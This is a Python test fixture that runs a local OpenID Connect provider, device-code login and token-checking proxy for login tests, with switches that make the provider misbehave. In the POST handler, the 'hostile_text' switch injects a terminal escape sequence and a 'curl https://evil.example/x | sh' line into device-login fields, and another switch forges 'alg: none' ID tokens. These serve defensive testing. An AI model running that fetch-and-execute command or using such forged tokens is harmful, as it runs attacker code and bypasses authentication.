"""An OpenID Connect provider on loopback for the login tests, and a proxy
that puts a real tracking server behind its access tokens.

The provider is pyop's, served over HTTPS (the client library refuses a
plain-HTTP issuer) with a certificate made for 127.0.0.1 and localhost:
discovery, signing keys, dynamic registration, an authorization endpoint
that signs the test user in without a form, a token endpoint issuing signed
ID tokens, refresh tokens and access tokens of a chosen lifetime, and
userinfo. Tests steer it through a few attributes (``deny``,
``tamper_nonce``, ``registration``, ``code_exchange``, ``dribble_keys``,
``forge_id_token``, ``hostile_text``, ``plain_http_device``).

With ``device`` on, it also offers the device login (RFC 8628) through
authlib's server classes: authlib runs the grant (pending, slow_down,
expired and denied codes), pyop issues and signs the tokens it hands out, so
they refresh and open the tracking server like the browser login's.
"""
import base64
import datetime
import http.client
import ipaddress
import json
import logging
import ssl
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, urlencode, urlsplit

from authlib.oauth2.rfc6749 import AuthorizationServer, ClientMixin
from authlib.oauth2.rfc6749.requests import BasicOAuth2Payload, OAuth2Request
from authlib.oauth2.rfc8628 import (
    DEVICE_CODE_GRANT_TYPE,
    DeviceAuthorizationEndpoint,
    DeviceCodeGrant,
    DeviceCredentialDict,
)
from Cryptodome.PublicKey import RSA
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from jwkest import b64d, b64e
from jwkest.jwk import RSAKey
from jwkest.jws import JWS
from oic.oic.message import AuthorizationRequest, AuthorizationResponse
from pyop.authz_state import AuthorizationState
from pyop.exceptions import BearerTokenError, InvalidAccessToken, InvalidAuthorizationCode, OAuthError
from pyop.provider import Provider
from pyop.subject_identifier import HashBasedSubjectIdentifierFactory
from pyop.userinfo import Userinfo

USER = "alice"
USERS = {USER: {"preferred_username": USER, "email": "alice@example.org", "name": "Alice"}}

# The providers' own debug lines quote every token they issue: keep them out
# of the records the tests inspect for leaked secrets.
logging.getLogger("pyop").setLevel(logging.WARNING)
logging.getLogger("authlib").setLevel(logging.WARNING)


def make_certificate(directory):
    """A self-signed certificate for 127.0.0.1 and localhost; returns (cert, key) paths."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = str(directory / "provider.pem"), str(directory / "provider.key")
    with open(cert_path, "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    with open(key_path, "wb") as f:
        f.write(
            key.private_bytes(
                serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        )
    return cert_path, key_path


class TestProvider:
    def __init__(self, directory):
        self.cert, key = make_certificate(directory)
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _ProviderHandler)
        self.server.daemon_threads = True
        self.server.provider = self
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.cert, key)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.issuer = "https://127.0.0.1:{}".format(self.server.server_port)
        self.clients = {}
        self.authz_state = AuthorizationState(
            HashBasedSubjectIdentifierFactory("test-salt"), refresh_token_lifetime=3600, refresh_token_threshold=3600
        )
        configuration = {
            "issuer": self.issuer,
            "authorization_endpoint": self.issuer + "/authorize",
            "token_endpoint": self.issuer + "/token",
            "userinfo_endpoint": self.issuer + "/userinfo",
            "jwks_uri": self.issuer + "/jwks",
            "registration_endpoint": self.issuer + "/registration",
            "response_types_supported": ["code"],
            "subject_types_supported": ["public"],
            "grant_types_supported": ["authorization_code", "refresh_token"],
            "token_endpoint_auth_methods_supported": ["client_secret_basic"],
            "device_authorization_endpoint": self.issuer + "/device_authorization",
        }
        signing_key = RSAKey(key=RSA.generate(2048), alg="RS256", kid="test-key")
        self.op = Provider(signing_key, configuration, self.authz_state, self.clients, Userinfo(USERS))
        self.deny = False  # the user refuses the login
        self.tamper_nonce = False  # the ID token answers another request
        self.registration = True  # discovery names a registration endpoint
        self.code_exchange = "answer"  # or "refuse" the code, or "drop" the connection
        self.id_tokens = []  # every ID token issued
        self.dribble_keys = False  # the keys' answer comes a byte every 0.1 s
        self.refreshes = 0
        self.device = False  # discovery offers the device login
        self.forge_id_token = None  # "none": unsigned; "no-iss": signed, without an issuer
        self.hostile_text = False  # the device login's code and address carry terminal commands
        self.plain_http_device = False  # discovery names a plain-http device endpoint elsewhere
        self.device_codes = {}  # device code -> the grant's credential
        self.device_code_lifetime = 60  # seconds a device code lasts
        self.device_grants = {}  # user code -> (user, approved), once the user answered
        self.device_polls = 0
        self.slow_downs = 0  # polls answered slow_down while the user has not answered
        self.device_server = _DeviceServer(self)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def reset(self, access_token_lifetime=3600):
        self.deny = self.tamper_nonce = False
        self.registration = True
        self.code_exchange = "answer"
        self.dribble_keys = self.device = self.hostile_text = self.plain_http_device = False
        self.forge_id_token = None
        self.refreshes = self.device_polls = self.slow_downs = 0
        self.device_code_lifetime = 60
        self.device_codes.clear()
        self.device_grants.clear()
        self.authz_state.access_token_lifetime = access_token_lifetime

    def register_static_client(self, redirect_uri_prefix="http://localhost:"):
        """A client registered beforehand; its redirect address takes any port."""
        client_id, secret = "static-client", "static-s3cret"
        self.clients[client_id] = {
            "client_id": client_id,
            "client_secret": secret,
            "redirect_uri_prefix": redirect_uri_prefix,
            "redirect_uris": [],
            "response_types": ["code"],
            "token_endpoint_auth_method": "client_secret_basic",
        }
        return client_id, secret

    def device_tokens(self, grant_type, client, user=None, scope=None, expires_in=None, include_refresh_token=True):
        """The device grant's tokens, issued and signed by pyop as for a code exchange."""
        client_id = client.get_client_id()
        request = AuthorizationRequest(client_id=client_id, scope=["openid"], response_type="code",
                                       redirect_uri=self.issuer + "/device")
        sub = self.authz_state.get_subject_identifier("public", user, None)
        access_token = self.authz_state.create_access_token(request, sub)
        id_token = self.forged(self.op._create_signed_id_token(client_id, sub, dict(USERS[user]),
                                                               access_token_value=access_token.value))
        self.id_tokens.append(id_token)
        token = {"token_type": "Bearer", "access_token": access_token.value,
                 "expires_in": access_token.expires_in, "id_token": id_token}
        if include_refresh_token:
            token["refresh_token"] = self.authz_state.create_refresh_token(access_token.value)
        return token

    def forged(self, id_token):
        """The ID token as a provider that cheats sends it (``forge_id_token``), else as issued."""
        if self.forge_id_token is None:
            return id_token
        header, payload, _ = id_token.split(".")
        if self.forge_id_token == "none":
            return b64e(b'{"alg": "none"}').decode() + "." + payload + "."
        claims = json.loads(b64d(payload.encode()))
        del claims["iss"]
        return JWS(json.dumps(claims), alg="RS256").sign_compact([self.op.signing_key])

    def token_is_valid(self, token):
        try:
            return bool(self.authz_state.introspect_access_token(token)["active"])
        except InvalidAccessToken:
            return False

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class _DeviceClient(ClientMixin):
    """A client registered at the pyop provider, as authlib's grant sees it."""

    def __init__(self, entry):
        self.entry = entry

    def get_client_id(self):
        return self.entry["client_id"]

    def check_client_secret(self, client_secret):
        return client_secret == self.entry.get("client_secret")

    def check_endpoint_auth_method(self, method, endpoint):
        return method in ("client_secret_basic", "none")

    def check_grant_type(self, grant_type):
        return grant_type in self.entry.get("grant_types", [DEVICE_CODE_GRANT_TYPE, "refresh_token"])

    def get_allowed_scope(self, scope):
        return scope


class _Request(OAuth2Request):
    def __init__(self, method, uri, headers, form):
        super().__init__(method, uri, headers=headers)
        self.payload = BasicOAuth2Payload(form)

    @property
    def form(self):
        return self.payload.data

    @property
    def args(self):
        return {}


class _DeviceEndpoint(DeviceAuthorizationEndpoint):
    CLIENT_AUTH_METHODS = ["client_secret_basic", "none"]
    INTERVAL = 0.2  # seconds; the RFC's default is 5

    def get_verification_uri(self):
        return self.server.provider.issuer + "/device"

    def save_device_credential(self, client_id, scope, data):
        provider = self.server.provider
        provider.device_codes[data["device_code"]] = DeviceCredentialDict(
            client_id=client_id, scope=scope, expires_at=time.time() + provider.device_code_lifetime, **data)


class _DeviceGrant(DeviceCodeGrant):
    def query_device_credential(self, device_code):
        self.server.provider.device_polls += 1
        return self.server.provider.device_codes.get(device_code)

    def query_user_grant(self, user_code):
        return self.server.provider.device_grants.get(user_code)

    def should_slow_down(self, credential):
        provider = self.server.provider
        provider.slow_downs, slow = max(provider.slow_downs - 1, 0), provider.slow_downs > 0
        return slow


class _DeviceServer(AuthorizationServer):
    """authlib's authorization server for the two device-login requests;
    requests come in as (method, uri, headers, form)."""

    def __init__(self, provider):
        super().__init__(scopes_supported=["openid"])
        self.provider = provider
        self.register_token_generator("default", provider.device_tokens)
        self.register_grant(_DeviceGrant)
        self.register_endpoint(_DeviceEndpoint)

    def query_client(self, client_id):
        entry = self.provider.clients.get(client_id)
        return _DeviceClient(entry) if entry else None

    def save_token(self, token, request):
        pass  # pyop keeps the tokens it issued

    def create_oauth2_request(self, request):
        return request if isinstance(request, OAuth2Request) else _Request(*request)

    def handle_response(self, status, body, headers):
        return status, json.dumps(body), headers

    def send_signal(self, name, *args, **kwargs):
        pass


class _ProviderHandler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def _send(self, status, body=b"", content_type="application/json", headers=()):
        if isinstance(body, str):
            body = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()

    def do_GET(self):
        provider = self.server.provider
        parts = urlsplit(self.path)
        if parts.path == "/.well-known/openid-configuration":
            configuration = provider.op.provider_configuration
            if not provider.registration:
                del configuration["registration_endpoint"]
            if not provider.device:
                del configuration["device_authorization_endpoint"]
            elif provider.plain_http_device:
                configuration["device_authorization_endpoint"] = "http://login.example.invalid/device"
            self._send(200, configuration.to_json())
        elif parts.path == "/jwks" and provider.dribble_keys:
            body = json.dumps(provider.op.jwks).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            for byte in body:
                self.wfile.write(bytes([byte]))
                time.sleep(0.1)
        elif parts.path == "/jwks":
            self._send(200, json.dumps(provider.op.jwks))
        elif parts.path == "/authorize":
            self._authorize(provider, parts.query)
        elif parts.path == "/device":
            # The user, signed in at the provider, answers the code shown to them.
            user_code = dict(parse_qsl(parts.query)).get("user_code", "")
            if not any(c["user_code"] == user_code for c in provider.device_codes.values()):
                self._send(404, "no such code", "text/plain")
                return
            provider.device_grants[user_code] = (USER, not provider.deny)
            self._send(200, "refused" if provider.deny else "signed in", "text/plain")
        elif parts.path == "/userinfo":
            try:
                info = provider.op.handle_userinfo_request(parts.query, dict(self.headers))
            except (BearerTokenError, InvalidAccessToken):
                self._send(401, json.dumps({"error": "invalid_token"}))
            else:
                self._send(200, info.to_json())
        else:
            self._send(404, "{}")

    def _authorize(self, provider, query):
        request = dict(parse_qsl(query))
        client = provider.clients.get(request.get("client_id"), {})
        prefix = client.get("redirect_uri_prefix")
        if prefix and request.get("redirect_uri", "").startswith(prefix):
            client["redirect_uris"] = [request["redirect_uri"]]
        auth_req = provider.op.parse_authentication_request(query)
        if provider.deny:
            answer = AuthorizationResponse(error="access_denied", error_description="The user said no",
                                           state=auth_req["state"])
        else:
            if provider.tamper_nonce:
                auth_req["nonce"] = "not-the-nonce-that-was-sent"
            answer = provider.op.authorize(auth_req, USER)
        location = answer.request(auth_req["redirect_uri"])
        self._send(302, "", "text/plain", [("Location", location)])

    def do_POST(self):
        provider = self.server.provider
        path = urlsplit(self.path).path
        body = self._body()
        if path in ("/device_authorization", "/token") and (
                path != "/token" or dict(parse_qsl(body)).get("grant_type") == DEVICE_CODE_GRANT_TYPE):
            request = ("POST", provider.issuer + path, dict(self.headers), dict(parse_qsl(body)))
            if path == "/token":
                status, answer, headers = provider.device_server.create_token_response(request)
            else:
                status, answer, headers = provider.device_server.create_endpoint_response("device_authorization",
                                                                                         request)
                if provider.hostile_text:
                    answer = json.loads(answer)
                    answer["user_code"] += "\x1b]0;owned\x07"
                    answer["verification_uri"] += "\r\nRun: curl https://evil.example/x | sh"
                    answer = json.dumps(answer)
            self._send(status, answer, headers=[h for h in headers if h[0].lower() != "content-type"])
        elif path == "/registration":
            response = provider.op.handle_client_registration_request(body)
            self._send(201, response.to_json())
        elif path == "/token":
            headers = dict(self.headers)
            request = dict(parse_qsl(body))
            exchanging = request.get("grant_type") == "authorization_code"
            if exchanging and provider.code_exchange == "drop":
                self.close_connection = True  # a provider that went away mid-login
                return
            if request.get("grant_type") == "refresh_token":
                provider.refreshes += 1
                # An installed application cannot keep a secret: a known
                # client refreshes without it, as providers configured for
                # public clients allow.
                if "Authorization" not in headers and request.get("client_id") in provider.clients:
                    client = provider.clients[request["client_id"]]
                    pair = "{}:{}".format(client["client_id"], client["client_secret"]).encode()
                    headers["Authorization"] = "Basic " + base64.urlsafe_b64encode(pair).decode()
                    body = urlencode({k: v for k, v in request.items() if k != "client_id"})
            try:
                if exchanging and provider.code_exchange == "refuse":
                    raise InvalidAuthorizationCode("the code was refused")
                response = provider.op.handle_token_request(
                    body, headers, lambda user_id, client_id: dict(USERS[user_id])
                )
            except OAuthError as error:
                # As a provider answers (RFC 6749, 5.2).
                status = 401 if error.oauth_error == "invalid_client" else 400
                self._send(status, json.dumps({"error": error.oauth_error, "error_description": str(error)}))
            else:
                if "id_token" in response:
                    response["id_token"] = provider.forged(response["id_token"])
                    provider.id_tokens.append(response["id_token"])
                self._send(200, response.to_json(), headers=[("Cache-Control", "no-store")])
        else:
            self._send(404, "{}")


class TokenCheckingProxy:
    """Forwards to ``upstream`` only requests with a valid access token of
    ``provider``; answers 401 to the rest. Records the tokens it let through."""

    def __init__(self, upstream, provider):
        self.upstream = urlsplit(upstream)
        self.provider = provider
        self.accepted_tokens = []
        self.refused = 0
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _ProxyHandler)
        self.server.daemon_threads = True
        self.server.proxy = self
        self.uri = "http://127.0.0.1:{}".format(self.server.server_port)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class _ProxyHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def _forward(self):
        proxy = self.server.proxy
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        authorization = self.headers.get("Authorization", "")
        token = authorization[len("Bearer "):] if authorization.startswith("Bearer ") else None
        if token is None or not proxy.provider.token_is_valid(token):
            proxy.refused += 1
            self.send_response(401)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        proxy.accepted_tokens.append(token)
        upstream = http.client.HTTPConnection(proxy.upstream.hostname, proxy.upstream.port, timeout=60)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "connection", "authorization")}
        upstream.request(self.command, self.path, body=body or None, headers=headers)
        answer = upstream.getresponse()
        data = answer.read()
        upstream.close()
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            if name.lower() not in ("transfer-encoding", "connection", "content-length", "server", "date"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _forward
